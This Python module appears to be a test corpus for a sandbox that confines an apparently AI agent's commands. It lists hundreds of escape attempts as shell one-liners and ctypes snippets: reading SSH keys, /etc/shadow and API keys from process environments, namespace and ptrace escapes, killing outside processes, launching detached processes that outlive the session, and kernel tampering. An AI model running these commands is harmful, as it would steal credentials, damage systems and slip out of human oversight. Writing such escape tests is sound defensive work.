"""Attacks on the cage itself, which the permission engine never sees: system calls, descriptors, other processes.

`/w/` is the folder around the project, WITNESS a process outside of the cage, PORT a listener on the loopback.
"""

from __future__ import annotations

from typing import Any

__all__ = ["own_attacks"]

SHELL = r"""
cat /w/outside.txt
cat ../outside.txt
cat < ../home/.ssh/id_rsa
cat key
cat link/.ssh/id_rsa
cat kit/up/outside.txt
cat "k=v"
cat /proc/self/cwd/../outside.txt
cat /proc/$$/root/w/outside.txt
cat /proc/WITNESS/cwd/../outside.txt
cat /proc/$PPID/root/etc/shadow
cat /proc/$PPID/environ
cat /proc/*/environ
cat /proc/$PPID/cmdline
tr '\0' '\n' < /proc/$PPID/environ | grep -i key
for f in /proc/[0-9]*/environ; do cat $f; done
env
set
export -p
cat /proc/self/environ
printenv ANTHROPIC_API_KEY
ls -R /w/home
grep -r . /w/home
find /w/home -type f -exec cat {} +
tar cf - /w/home
cp -r /w/home $TMPDIR && cat $TMPDIR/home/.netrc
ln -s /w/outside.txt $TMPDIR/x && cat $TMPDIR/x
ln /w/outside.txt $TMPDIR/x && cat $TMPDIR/x
mv /w/outside.txt $TMPDIR/x && cat $TMPDIR/x
mv $TMPDIR /w/moved
cd /w && cat outside.txt
cd /w/home && cat .netrc
exec 5< /w/outside.txt && cat <&5
. /w/evil/run.sh
/w/evil/run.sh
sh /w/evil/run.sh
make -f /w/evil/Makefile
bash -c 'cat /w/outside.txt'
env -i /bin/cat /w/outside.txt
setsid -w cat /w/outside.txt
nohup cat /w/outside.txt
timeout 2 cat /w/outside.txt
nice cat /w/outside.txt
xargs -a /w/outside.txt echo
awk '{print}' /w/outside.txt
sed '' /w/outside.txt
diff /w/outside.txt a.txt
git diff --no-index a.txt /w/outside.txt
git --git-dir=vendor/bare --work-tree=. status
cd vendor/bare/refs && git status
git status
git log --output=/w/pwned
git archive HEAD -o /w/pwned
gzip -c /w/outside.txt | gunzip
od -c /w/outside.txt
strings @/w/outside.txt
file -f /w/outside.txt
wc --files0-from=/w/outside.txt
date -f /w/outside.txt
sort --files0-from=/w/outside.txt
unshare -U cat /w/outside.txt
unshare -Urm cat /w/outside.txt
unshare -r chroot / cat /w/outside.txt
chroot /w cat outside.txt
mount --bind /w/home $TMPDIR
nsenter -t 1 -m cat /w/outside.txt
nsenter -t WITNESS -a cat /w/outside.txt
gdb -p WITNESS -batch -ex 'call (int)kill(1,9)'
strace -p WITNESS
su -c 'cat /w/outside.txt'
sudo -n cat /w/outside.txt
at now <<< 'touch /w/pwned'
crontab - <<< '* * * * * touch /w/pwned'
systemd-run --user touch /w/pwned
logger hello
wall hello
echo x > /dev/log
echo x > /w/pwned
echo x >> /w/outside.txt
echo x > a.txt
echo x > pwned
: > /w/outside.txt
cp a.txt /w/pwned
tee /w/pwned < a.txt
dd if=a.txt of=/w/pwned
install a.txt /w/pwned
touch /w/pwned
touch /w/outside.txt
touch -a -m -d 2001-01-01 /w/outside.txt
touch -h -d 2001-01-01 key
chmod 777 /w/outside.txt
chmod -R 777 /w/home
chmod u+s evil.sh
chown 1000 /w/outside.txt
chgrp 1000 a.txt
chattr +i a.txt
chattr +i /w/outside.txt
setfattr -n user.x -v y a.txt
setfacl -m u:1000:rwx a.txt
rm -rf /w/precious
rm a.txt
rmdir src/deep
mv a.txt c.txt
mv /w/precious /w/gone
mkdir /w/pwned
mkfifo pwned
mknod pwned p
ln -s /etc pwned
truncate -s 0 /w/outside.txt
fallocate -l 1M pwned
sed -i s/o/x/ a.txt
perl -i -pe s/o/x/ a.txt
sqlite3 pwned.db 'create table t(a)'
git add -A
git config user.name x
git init /w/pwned
git commit --allow-empty -m x
git hash-object -w a.txt
git update-index --refresh
tar xf - -C /w <<< ''
unzip -d /w x.zip
exec 3<>/dev/tcp/127.0.0.1/PORT; echo x >&3
echo x > /dev/udp/127.0.0.1/PORT
curl -s http://127.0.0.1:PORT
wget -qO- http://127.0.0.1:PORT
nc 127.0.0.1 PORT < a.txt
git clone http://127.0.0.1:PORT/x $TMPDIR/x
git ls-remote ext::'sh -c "touch /w/pwned"'
ssh -p PORT 127.0.0.1
python3 -c 'import urllib.request as u; u.urlopen("http://127.0.0.1:PORT")'
node -e 'require("net").connect(PORT, "127.0.0.1").on("error", () => process.exit(1))'
kill -9 WITNESS
kill -9 $PPID
kill -9 1
kill -9 -1
kill -STOP WITNESS
pkill -9 cat
killall cat
bash -c 'kill -KILL -WITNESS'
renice 19 WITNESS
taskset -p 1 WITNESS
ionice -c3 -p WITNESS
prlimit --pid WITNESS --nofile=1
chrt -p 0 WITNESS
setsid sleep 1000 &
setsid env -i sleep 1000 &
nohup sleep 1000 > /dev/null 2>&1 &
(sleep 1000 &) ; disown -a
(setsid setsid env -i sleep 1000 &) &
bash -c 'trap "" TERM HUP INT; sleep 1000' &
coproc sleep 1000
for i in $(seq 200); do setsid env -i sleep 1000 & done
exec -a kworker sleep 1000 &
python3 -c 'import os; os.fork() or (os.setsid(), os.fork() or os.execvp("sleep", ["x", "1000"]))'
hostname pwned
date -s 2001-01-01
sysctl -w kernel.hostname=x
echo x > /proc/sys/kernel/hostname
echo 1 > /proc/sys/kernel/sysrq
echo b > /proc/sysrq-trigger
echo '|/w/evil/run.sh' > /proc/sys/kernel/core_pattern
echo -1000 > /proc/self/oom_score_adj
dmesg
swapon a.txt
losetup -f a.txt
modprobe dummy
insmod a.txt
keyctl show
keyctl add user x y @u
ipcmk -M 100
ipcmk -Q
mesg y
script -c 'cat /w/outside.txt' /dev/null
stty -F /dev/tty
cat /dev/mem
cat /dev/kmsg
cat /dev/sda
ls /dev/pts
ls /w
ls /root
ls /tmp
head -c 10 /etc/shadow
cat /etc/ssl/private/*
cat /var/log/*
LD_PRELOAD=/w/evil/x.so cat a.txt
PATH=/w/evil:$PATH run.sh
PYTHONPATH=/w/evil python3 -c 'import conftest'
"""

BEGINNING = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def works(result):
    print(result)
    assert result >= 0
"""
PYTHON = {
    "handles": """
h = ctypes.create_string_buffer(136); h[0:4] = (128).to_bytes(4, "little"); m = ctypes.c_int()
print(libc.name_to_handle_at(-100, b"/w/outside.txt", h, ctypes.byref(m), 0))
f = libc.open_by_handle_at(os.open(".", 0), h, 0); print(os.read(f, 100))""",
    "io_uring": """
works(libc.syscall(425, 8, ctypes.create_string_buffer(120)))""",
    "process_vm_readv": """
b = ctypes.create_string_buffer(64)
v = (ctypes.c_size_t * 2)(ctypes.addressof(b), 64); r = (ctypes.c_size_t * 2)(0x400000, 64)
works(libc.process_vm_readv(os.getppid(), v, 1, r, 1, 0) - 1)""",
    "ptrace": """
works(libc.ptrace(0x4206, WITNESS, 0, 0))""",
    "memory file": """
import os
f = os.memfd_create("x"); os.write(f, b"#!/bin/sh\\ncat /w/outside.txt; touch /w/pwned\\n")
os.execve(f"/proc/self/fd/{f}", ["x"], {})""",
    "anonymous file": """
import os
f = os.open(os.environ["TMPDIR"], os.O_TMPFILE | os.O_RDWR)
os.link(f"/proc/self/fd/{f}", "/w/pwned", follow_symlinks=True)""",
    "descriptor of a folder": """
import os
f = os.open("/w", os.O_PATH); print(os.read(os.open("outside.txt", 0, dir_fd=f), 100))""",
    "reopened path descriptor": """
import os
f = os.open("/w/outside.txt", os.O_PATH); print(open(f"/proc/self/fd/{f}").read())""",
    "rename across": """
import os
os.mkdir(os.environ["TMPDIR"] + "/d"); os.rename("/w/precious", os.environ["TMPDIR"] + "/d")""",
    "exchange": """
import ctypes, os
open(os.environ["TMPDIR"] + "/f", "w").close()
works(libc.renameat2(-100, b"/w/outside.txt", -100, os.fsencode(os.environ["TMPDIR"] + "/f"), 2))""",
    "abstract socket": """
import socket
s = socket.socket(socket.AF_UNIX); s.connect("\\0handrail-range")""",
    "datagram socket": """
import socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b"x", "datagram")""",
    "datagram pair": """
import socket
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(b"x", "datagram")""",
    "stream pair": """
import socket
a, b = socket.socketpair(); a.sendmsg([b"x"], [], 0, "datagram"); a.connect("\\0handrail-range")""",
    "packet pair": """
import socket
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET); a.sendto(b"x", "datagram")""",
    "tcp": "import socket; socket.create_connection(('127.0.0.1', PORT)).send(b'x')",
    "udp": "import socket; socket.socket(2, 2).sendto(b'x', ('127.0.0.1', PORT))",
    "raw": "import socket; socket.socket(2, 3, 1).sendto(b'x', ('127.0.0.1', 0))",
    "netlink": "import socket; socket.socket(16, 3, 0)",
    "signal by pidfd": "import os, signal; signal.pidfd_send_signal(os.pidfd_open(WITNESS), 9)",
    "stolen descriptor": """
works(libc.syscall(438, os.pidfd_open(os.getppid()), 0, 0))""",
    "signal by file owner": """
import fcntl, os, signal
r, w = os.pipe(); fcntl.fcntl(r, fcntl.F_SETOWN, WITNESS); fcntl.fcntl(r, 10, 9)
fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK); os.write(w, b"x")""",
    "signal by thread": "works(libc.syscall(234, WITNESS, WITNESS, 9))",
    "signal by queue": """
works(libc.syscall(129, WITNESS, 9, ctypes.create_string_buffer(128)))""",
    "limits of another": "import resource; resource.prlimit(WITNESS, resource.RLIMIT_NOFILE, (1, 1))",
    "user namespace": "works(libc.unshare(0x10000000))",
    "user namespace by clone": "works(libc.syscall(56, 0x10000011, 0, 0, 0, 0))",
    "user namespace by clone3": """
import ctypes
a = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17); works(libc.syscall(435, a, 88))""",
    "mount": "works(libc.mount(b'/w/home', b'/w/proj', b'', 4096, 0))",
    "new mount": "works(libc.syscall(428, -100, b'/w', 1))",
    "bpf": "works(libc.syscall(321, 0, ctypes.create_string_buffer(128), 128))",
    "userfaultfd": "works(libc.syscall(323, 1))",
    "perf": "works(libc.syscall(298, ctypes.create_string_buffer(128), 0, -1, -1, 0))",
    "key": "works(libc.syscall(248, b'user', b'a', b'b', 1, -3))",
    "message queue": "works(libc.syscall(240, b'pwned', 0o102, 0o600, 0))",
    "shared memory": "works(libc.shmget(4242, 4096, 0o1600))",
    "semaphore file": "open('/dev/shm/pwned', 'w')",
    "mode by descriptor": "import os; os.fchmod(os.open('a.txt', 0), 0o777)",
    "times by descriptor": "import os; os.utime(os.open('a.txt', 0), (1, 1))",
    "owner by descriptor": "import os; os.fchown(os.open('a.txt', 0), 1, 1)",
    "attribute by descriptor": "import os; os.setxattr(os.open('a.txt', 0), 'user.x', b'y')",
    "flags by descriptor": "import fcntl, os; fcntl.ioctl(os.open('a.txt', 0), 0x40086602, (16).to_bytes(8, 'little'))",
    "truncated for reading": "import os; os.open('a.txt', os.O_RDONLY | os.O_TRUNC)",
    "terminal": "import fcntl; fcntl.ioctl(0, 0x5412, b'x')",
    "capabilities": "import os; os.setuid(0); os.setgid(0); os.setgroups([0]); print(open('/w/outside.txt').read())",
    "many threads": """
import threading, os
threads = [threading.Thread(target=lambda: os.system("cat /w/outside.txt")) for _ in range(5)]
for thread in threads: thread.start()
for thread in threads: thread.join()""",
    "32-bit entry": """
import ctypes, mmap
code = bytes.fromhex("b814000000cd80c3")  # mov eax, 20; int 0x80; ret
m = mmap.mmap(-1, 4096, prot=7); m.write(code)
f = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
print(f()); print(open("/w/outside.txt").read())""",
}


def own_attacks() -> list[dict[str, Any]]:
    """All attacks. Those in Python run with the interpreter of the system."""
    found = [{"id": f"shell {number}", "cmd": line} for number, line in enumerate(SHELL.strip().splitlines())]
    for name, program in PYTHON.items():
        found.append({"id": name, "cmd": f"python3 - <<'END'{BEGINNING}{program.strip()}\nEND"})
    return found
